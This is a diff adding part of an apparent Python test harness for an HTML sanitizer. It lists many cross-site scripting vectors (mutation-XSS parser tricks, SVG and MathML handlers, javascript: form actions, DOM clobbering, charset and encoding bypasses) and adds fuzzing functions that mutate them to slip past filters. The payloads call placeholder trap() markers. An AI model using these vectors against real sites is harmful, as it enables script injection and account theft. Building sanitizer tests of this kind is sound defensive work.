+        "<noframes><img src=\"</noframes><img src=x onerror=TRAP>\">",
+        "<noembed><img title=\"</noembed><img src=x onerror=TRAP>\">",
+        "<noscript><img title=\"</noscript><img src=x onerror=TRAP>\">",
+        "<noscript><p title='</noscript><img src=x onerror=TRAP>'>",
+        "<template><img src=x onerror=TRAP></template><svg onload=TRAP>",
+        "<div><template shadowrootmode=open><img src=x onerror=TRAP></template></div>",
+        "<template><form><button formaction=javascript:TRAP>w</button></form></template><svg onload=TRAP>",
+        "<slot name=x onslotchange=TRAP><svg onload=TRAP></slot>",
+        "<fencedframe src=//SITE></fencedframe><iframe src=//SITE></iframe>",
+    ],
+    "drawings": [
+        "<svg><animate onbegin=TRAP attributeName=x dur=1s>",
+        "<svg><animate attributeName=x dur=1ms onend=TRAP></svg>",
+        "<svg><set onbegin=TRAP attributeName=x></svg>",
+        "<svg><animatetransform onbegin=TRAP attributeName=transform></svg>",
+        "<svg><animatemotion onbegin=TRAP path=M0,0 dur=1s></svg>",
+        "<svg><a id=x1><text y=9>w</text></a><set href=#x1 attributeName=href to=javascript:TRAP></svg>",
+        "<svg><a><animate attributeName=href values=javascript:TRAP /><text x=9 y=9>w</text></a></svg>",
+        "<svg><a><animate attributeName=href dur=1s from='java&#9;script:0' to=x values=javascript:TRAP;javascript:TRAP /><text y=9>w</text></a></svg>",
+        "<svg><a xlink:href=x><set attributeName=xlink:href to=javascript:TRAP /><text y=9>w</text></a></svg>",
+        "<svg><script><animate attributeName=href to=data:,TRAP /></script></svg><svg onload=TRAP>",
+        "<svg><foreignObject><img src=x onerror=TRAP></foreignObject></svg>",
+        "<svg><foreignObject><iframe srcdoc='<script>TRAP</script>'></iframe></foreignObject></svg>",
+        "<svg><desc><img src=x onerror=TRAP></desc></svg>",
+        "<svg><title><img src=x onerror=TRAP></title></svg>",
+        "<svg><style>*{}</style><style><img src=x onerror=TRAP></style></svg>",
+        "<svg><style>&lt;/style&gt;&lt;img src=x onerror=TRAP&gt;</style></svg><svg onload=TRAP>",
+        "<svg><use href='#y1' /><g id=y1><image href=x onerror=TRAP></g></svg>",
+        "<svg><discard onbegin=TRAP></svg>",
+        "<svg><handler type=text/javascript ev:event=load>TRAP</handler></svg><svg onload=TRAP>",
+        "<svg><view onclick=TRAP><rect onclick=TRAP width=9 height=9></view><circle r=9 onmouseover=TRAP></svg>",
+        "<svg xmlns=http://www.w3.org/2000/svg><!DOCTYPE x><g onload=TRAP><image href=x onerror=TRAP></g></svg>",
+        "<svg><tspan onclick=TRAP><text onclick=TRAP>w</text></tspan></svg>",
+        "<svg><path d=M0,0 onfocusin=TRAP tabindex=0 /></svg>",
+        "<svg><cursor xlink:href=//SITE /><image href=//SITE></svg>",
+    ],
+    "formulas": [
+        "<math><annotation-xml encoding=text/html><img src=x onerror=TRAP></annotation-xml></math>",
+        "<math><annotation-xml encoding=application/xhtml+xml><script>TRAP</script></annotation-xml></math>",
+        "<math><semantics><mi>x</mi><annotation-xml encoding=SVG1.1><svg onload=TRAP></svg></annotation-xml></semantics></math>",
+        "<math><semantics><annotation encoding=x><img src=x onerror=TRAP></annotation></semantics></math>",
+        "<math><mtext><img src=x onerror=TRAP></mtext></math>",
+        "<math><mi onclick=TRAP tabindex=0>w</mi></math>",
+        "<math onclick=TRAP><mn>1</mn></math>",
+        "<math><maction actiontype=toggle onclick=TRAP><mi>a</mi><mi>b</mi></maction></math>",
+        "<math><mstyle background='//SITE' style='background:url(//SITE)'>w</mstyle></math>",
+        "<math><mglyph src=//SITE alt=x></mglyph><mtext><img src=//SITE></mtext></math>",
+        "<math><img src=x onerror=TRAP></math>",
+        "<math><mo><style><img src=x onerror=TRAP></style></mo></math><svg onload=TRAP>",
+        "<math><ms><svg onload=TRAP></svg></ms></math>",
+        "<math><mtext><math><mi onmouseover=TRAP>w</mi></math></mtext></math>",
+    ],
+    "mutating parsers": [
+        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=TRAP&gt;\"></style></mglyph></table></mtext></math>",
+        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=TRAP>",
+        "<svg></p><style><a id=\"</style><img src=x onerror=TRAP>\">",
+        "<svg><p><style><a title=\"</style><img src=x onerror=TRAP>\">",
+        "<math><p></math><style><!--</style><img src=x onerror=TRAP>",
+        "<math><mi><table><mi><img src=x onerror=TRAP>",
+        "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src=x onerror=TRAP>\"></style></h1>",
+        "<table><math><mtext><style><img src=x onerror=TRAP></style></table>",
+        "<table><tr><svg><desc><td><style><a title=\"</style><img src=x onerror=TRAP>\">",
+        "<svg><foreignObject><math><mi><svg><style><a title=\"</style><img src=x onerror=TRAP>\">",
+        "<select><template><style><!--</style><img src=x onerror=TRAP>--></style></template></select>",
+        "<select><iframe></select><img src=x onerror=TRAP>",
+        "<select><style></select><img title=\"</style><img src=x onerror=TRAP>\">",
+        "<select><option><svg><style><img title=\"</style><img src=x onerror=TRAP>\"></select>",
+        "<textarea><img title=\"</textarea><img src=x onerror=TRAP>\">",
+        "<title><img title=\"</title><img src=x onerror=TRAP>\">",
+        "<xmp><img title=\"</xmp><img src=x onerror=TRAP>\">",
+        "<xmp><svg><b><style></xmp><img title='</style><img src=x onerror=TRAP>'>",
+        "<plaintext><img src=x onerror=TRAP>",
+        "<p>w</p></plaintext><img src=x onerror=TRAP>",
+        "<listing>&lt;img src=x onerror=TRAP&gt;</listing><pre>\n\n&lt;img src=x onerror=TRAP&gt;</pre><svg onload=TRAP>",
+        "<noscript><style></noscript><img src=x onerror=TRAP></style>",
+        "<noscript><!--</noscript><img src=x onerror=TRAP>-->",
+        "<svg><noscript><p title=\"</noscript><img src=x onerror=TRAP>\"></noscript></svg>",
+        "<svg><xmp><style><img src=x onerror=TRAP></style></xmp></svg>",
+        "<svg><annotation-xml><foreignObject><style><!--</style><p id=\"--><img src=x onerror=TRAP>\">",
+        "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=TRAP></style></annotation-xml></math><svg onload=TRAP>",
+        "<a><b><a><b><table><a><img src=x onerror=TRAP></a></table></b></a></b></a>",
+        "<p><svg><title><style><a title=\"</style></title><img src=x onerror=TRAP>\">",
+        "<b><i><table><style><a title=\"</style><img src=x onerror=TRAP>\"></table></i></b>",
+        "<div><svg><desc></div><style><a title=\"</style><img src=x onerror=TRAP>\">",
+        "<svg><font color=x><style><a title=\"</style><img src=x onerror=TRAP>\">",
+        "<svg><a><style><p><a title=\"</style><img src=x onerror=TRAP>\">",
+        "⟦deep <b>⟧<img src=x onerror=TRAP>",
+        "⟦deep <div>⟧<svg><style><a title=\"</style><img src=x onerror=TRAP>\">",
+        "⟦deep <math><mtext>⟧<style><a title=\"</style><img src=x onerror=TRAP>\">",
+        "⟦deep <svg>⟧<style><a title=\"</style><img src=x onerror=TRAP>\">",
+        "⟦deep <table><td>⟧<math><mi><table><mglyph><style><a title=\"</style><img src=x onerror=TRAP>\">",
+        "⟦deep <svg><foreignObject>⟧<math><style><a title=\"</style><img src=x onerror=TRAP>\">",
+        "⟦deep <a href=x>⟧⟦deep <math>⟧<mi><img src=x onerror=TRAP>",
+    ],
+    "foreign names": [
+        "<svg><html><body onload=TRAP><image href=x onerror=TRAP></svg>",
+        "<math><svg><style><a title=\"</style><img src=x onerror=TRAP>\">",
+        "<svg><math><mi><img src=x onerror=TRAP>",
+        "<svg><svg:a xlink:href=javascript:TRAP>w</svg:a><a href=javascript:TRAP><text y=9>w</text></a></svg>",
+        "<svg><br><img src=x onerror=TRAP></svg>",
+        "<svg></br><img src=x onerror=TRAP></svg>",
+        "<svg><image><img src=x onerror=TRAP></image></svg>",
+        "<svg><iframe srcdoc='<script>TRAP</script>'></iframe><image href=x onerror=TRAP></svg>",
+        "<math><a href=javascript:TRAP>w</a></math>",
+        "<math><font size=1><img src=x onerror=TRAP></font></math>",
+        "<svg><body><p onclick=TRAP>w</p></body></svg>",
+        "<svg><p>w<a href=javascript:TRAP>w</a>",
+        "<html xmlns=http://www.w3.org/2000/svg><script>TRAP</script></html>",
+        "<svg><template><script>TRAP</script></template></svg>",
+    ],
+    "forms and lists": [
+        "<form><form><button formaction=javascript:TRAP>w</button></form></form>",
+        "<form action=javascript:TRAP><input type=submit value=w><form></form>",
+        "<form></form><form><input type=image formaction=javascript:TRAP src=x></form>",
+        "<form onsubmit=TRAP><button>w</button></form>",
+        "<form onreset=TRAP><input type=reset></form>",
+        "<form oninput=TRAP><input><output onclick=TRAP>w</output></form>",
+        "<button type=submit form=f3>w</button><form id=f3 action=javascript:TRAP></form>",
+        "<input list=d1 oninput=TRAP><datalist id=d1 onclick=TRAP><option onclick=TRAP>w</datalist>",
+        "<label for=i1 onclick=TRAP>w</label><input id=i1>",
+        "<select onchange=TRAP><option onclick=TRAP>w</select>",
+        "<fieldset onfocusin=TRAP><legend onclick=TRAP tabindex=0>w</legend></fieldset>",
+        "<isindex action=javascript:TRAP><form action=javascript:TRAP><button>w</button></form>",
+        "<menu onclick=TRAP><menuitem onclick=TRAP icon=x>w</menuitem></menu>",
+        "<input type=hidden accesskey=x onclick=TRAP>",
+        "<input type=password name=p autofocus onfocus=TRAP>",
+        "<object form=f4 data=data:text/html,<script>TRAP</script>></object>",
+    ],
+    "clobbering": [
+        "<a id=VICTIM></a>",
+        "<a id=VICTIM><a id=VICTIM name=x href=//SITE></a></a>",
+        "<form id=VICTIM><input name=action></form>",
+        "<img name=VICTIM src=x>",
+        "<form name=VICTIM><output id=x>w</output></form>",
+        "<iframe name=VICTIM srcdoc='<a id=x></a>'></iframe>",
+        "<embed name=VICTIM>",
+        "<object id=VICTIM></object>",
+        "<p id=VICTIM>w</p>",
+        "<table><td id=VICTIM>w</table>",
+        "<a href=/ id=VICTIM name=VICTIM>w</a>",
+        "<math id=VICTIM><mi id=VICTIM>w</mi></math>",
+        "<svg id=VICTIM></svg>",
+        "<form id=VICTIM><button id=attributes></button><input id=innerHTML></form>",
+    ],
+    "encodings": [
+        "⟦utf7 <script>TRAP</script>⟧",
+        "<meta http-equiv=content-type content='text/html; charset=utf-7'>⟦utf7 <script>TRAP</script>⟧",
+        "<meta charset=utf-7>⟦utf7 <img src=x onerror=TRAP>⟧",
+        "<meta charset=iso-2022-jp><img alt=\"\x1b$B\"><img src=x onerror=TRAP>\x1b(B\">",
+        "⟦ascii7 <script>TRAP</script>⟧",
+        "⟦wide <script>TRAP</script>⟧",
+        "\u00c0\u00bcscript\u00c0\u00beTRAP\u00c0\u00bc/script\u00c0\u00be",
+        "\ufffdscript\ufffdTRAP",
+        "\u2039script\u203aTRAP\u2039/script\u203a",
+        "⟦url <script>TRAP</script>⟧",
+        "\\x3cscript\\x3eTRAP\\x3c/script\\x3e",
+        "\\u003cscript\\u003eTRAP\\u003c/script\\u003e",
+        "⟦dec <script>TRAP</script>⟧",
+        "⟦bare <script>TRAP</script>⟧",
+        "⟦hex <script>TRAP</script>⟧",
+        "&LT;script&GT;TRAP&LT;/script&GT;",
+        "&lt&lt;script&gtTRAP",
+        "\ufeff<script\ufeff>TRAP</script>",
+        "<img src=x onerror=\u202eTRAP>\u202d<img src=x onerror=TRAP>",
+        "<img src=x on\u00ad\u200berror=TRAP><img src=x onerror=TRAP>",
+        "<meta http-equiv=set-cookie content='x=<script>TRAP</script>'>",
+        "<meta http-equiv=content-security-policy content=\"default-src *; script-src 'unsafe-inline'\"><script>TRAP</script>",
+        "<meta name=referrer content=unsafe-url><img src=//SITE>",
+    ],
+}
+
+# What today's Chromium knows nothing of, or has no part in: these classes cannot fire even when nothing is taken away.
+SILENT = {"handlers of old browsers"}
+
+
+def render(template, number):
+    """The vector with its own number."""
+    text = template.replace("TRAP", f"trap({number})").replace("SITE", f"{HOST}/{number}")
+    text = text.replace("VICTIM", f"victim{number}")
+    while found := re.search("⟦([a-z0-9]+) ([^⟦⟧]*)⟧", text):
+        text = text[: found.start()] + ENCODINGS[found[1]](found[2]) + text[found.end() :]
+    return text
+
+
+def vectors():
+    """(class, number, vector) of every template."""
+    templates = [(name, template) for name, list in VECTORS.items() for template in list]
+    return [(name, number, render(template, number)) for number, (name, template) in enumerate(templates, 1)]
+
+
+# Between names and values of an element's start.
+SPACES = ["\t", "\n", "\r", "\x0c", "/", "  ", "\u00a0", "/**/", "<!---->", "\x0b", "\u2028", "&Tab;", "\x01", "//"]
+WRAPS = [
+    ["<p>", "</p>"], ["<table><tr><td>", "</td></tr></table>"], ["<table>", "</table>"], ["<svg>", "</svg>"],
+    ["<math>", "</math>"], ["<math><mtext>", "</mtext></math>"], ["<math><mi>", "</mi></math>"], ["<select>", "</select>"],
+    ["<template>", "</template>"], ["<noscript>", "</noscript>"], ["<svg><foreignObject>", "</foreignObject></svg>"],
+    ["<svg><title>", "</title></svg>"], ["<svg><desc>", "</desc></svg>"], ["<style>", "</style>"], ["<title>", "</title>"],
+    ["<textarea>", "</textarea>"], ["<xmp>", "</xmp>"], ["<iframe>", "</iframe>"], ["<!--", "-->"], ["<b><i><a href=x>", "</b>"],
+    ["<math><annotation-xml encoding=text/html>", "</annotation-xml></math>"], ["<p title='", "'>"], ["<p title=\"", "\">"],
+    ["<img alt='", "'>"], ["<a href='", "'>x</a>"], ["<math><mglyph><style>", "</style></mglyph></math>"], ["<ul><li>", "</ul>"],
+    ["<form>", "</form>"], ["<details><summary>", "</details>"], ["<ruby><rt>", "</ruby>"], ["<![CDATA[", "]]>"],
+    ["<svg><![CDATA[", "]]></svg>"], ["<pre>\n", "</pre>"], ["<figure><figcaption>", "</figcaption></figure>"],
+]  # fmt: skip
+
+
+def cased(chance, text):
+    """Other case, except in what a script must spell right."""
+    parts = re.split(r"(trap\(\d+\)|victim\d+)", text)
+    return "".join(p if n % 2 else "".join(c.swapcase() if chance.random() < 0.3 else c for c in p) for n, p in enumerate(parts))
+
+
+def spaced(chance, text):
+    """Something else for spaces, and now and then something within names and addresses."""
+    text = re.sub(" ", lambda _: chance.choice(SPACES[: 5 if chance.random() < 0.8 else None]) if chance.random() < 0.6 else " ", text)
+    at = chance.randrange(len(text) + 1)
+    return text[:at] + chance.choice(SPACES) + text[at:] if chance.random() < 0.3 else text
+
+
+def encoded(chance, text):
+    """Some letters of values as entities of any form; now and then also of names."""
+    forms = ["&#{};", "&#x{:x};", "&#X{:X};", "&#{:07};", "&#x{:08x};", "&#{}", "&#x{:x}"]
+    letters = lambda part: re.sub(  # noqa: E731
+        "[a-z:()]", lambda c: chance.choice(forms).format(ord(c[0])) if chance.random() < 0.2 else c[0], part, flags=re.I
+    )
+    if chance.random() < 0.2:
+        return letters(text)
+    return re.sub(r"(?<==)([\"']?)([^\"'<>\s]+)", lambda value: value[1] + letters(value[2]), text)
+
+
+def quoted(chance, text):
+    """Quotes twice, instead of others, or not at all."""
+    return re.sub("[\"'`]", lambda q: chance.choice([q[0] * 2, '"', "'", "`", "", "\\" + q[0]]), text)
+
+
+def wrapped(chance, text):
+    before, after = chance.choice(WRAPS)
+    return before + text + (after if chance.random() < 0.8 else "")
+
+
+def cut(chance, text):
+    """Begins or ends anywhere, also within a letter."""
+    encoded = text.encode()
+    at = chance.randrange(1, len(encoded)) if len(encoded) > 1 else 1
+    return (encoded[:at] if chance.random() < 0.7 else encoded[at:]).decode(errors="ignore")
+
+
+def doubled(chance, text):
+    """Brackets and names within themselves, for those who remove them once."""
+    found = chance.choice(list(re.finditer(r"</?[a-z]+|[<>=]|on[a-z]+|javascript:", text, re.I)) or [None])
+    if found is None:
+        return text
+    middle = (found.start() + found.end()) // 2
+    return text[:middle] + chance.choice([found[0], "<", ">", "<b>", "</b>", "<script>"]) + text[middle:]
+
+
+MUTATIONS = [cased, cased, spaced, encoded, encoded, quoted, wrapped, wrapped, cut, doubled]
+
+
+def mutations(seed, count):
+    """(how, number, vector): one or two vectors with one to four changes."""
+    # A handler that must be spelt right is as good as another; fewer of them leave more room for the rest.
+    templates = [t for name, list in VECTORS.items() for t in (list[:8] if name.startswith("handlers") else list)]
+    templates = [template for template in templates if "⟦deep" not in template]
+    for number in range(FIRST_MUTATION, FIRST_MUTATION + count):
+        chance = random.Random(f"{seed}/{number}")
+        text = "".join(render(chance.choice(templates), number) for _ in range(1 if chance.random() < 0.75 else 2))
+        steps = [chance.choice(MUTATIONS) for _ in range(chance.choice([1, 1, 2, 2, 3, 4]))]
+        for step in steps:
+            text = step(chance, text)
+        # The server refuses it, which has its own test.
+        yield "+".join(step.__name__ for step in steps), number, text.replace("\x00", "")
